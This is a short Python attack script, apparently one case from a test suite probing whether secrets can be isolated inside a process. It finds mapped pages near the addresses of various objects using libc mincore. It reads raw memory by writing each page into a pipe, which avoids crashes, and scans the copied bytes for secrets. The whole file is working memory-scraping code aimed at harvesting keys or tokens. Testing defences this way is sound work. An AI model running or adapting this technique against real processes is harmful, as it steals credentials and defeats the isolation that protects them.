"""Success: a secret anywhere in the process's memory."""

import ctypes

import numpy as np
from kit import libc, secrets_in


def readable(page, count, room):
    return libc.mincore(ctypes.c_void_p(page), ctypes.c_size_t(count * 4096), room) == 0


def attack(a):
    """Looks at the neighbourhood of objects of all kinds: there is no list of mappings."""
    room = (ctypes.c_ubyte * 512)()
    starts = {id(thing) & ~0x1FFFFF for thing in (a, np, np.pi, attack, object(), "x" * 5000)}
    starts |= {np.empty(size).ctypes.data & ~0x1FFFFF for size in (10, 1000, 10**5)}
    found = set()
    for start in sorted(starts):
        for block in range(start, start + 0x400000, 16 * 4096):
            if readable(block, 16, room):
                found |= set(secrets_in(memory(block, 16 * 4096)))
    return sorted(found)


def memory(address, count):
    """Copied by the kernel, which does not crash on what cannot be read."""
    import os

    if not hasattr(memory, "pipe"):
        memory.pipe = os.pipe()
    libc.write.restype = ctypes.c_ssize_t
    data = b""
    for page in range(address, address + count, 4096):
        written = libc.write(memory.pipe[1], ctypes.c_void_p(page), ctypes.c_size_t(4096))
        if written > 0:
            data += os.read(memory.pipe[0], written)
    return data
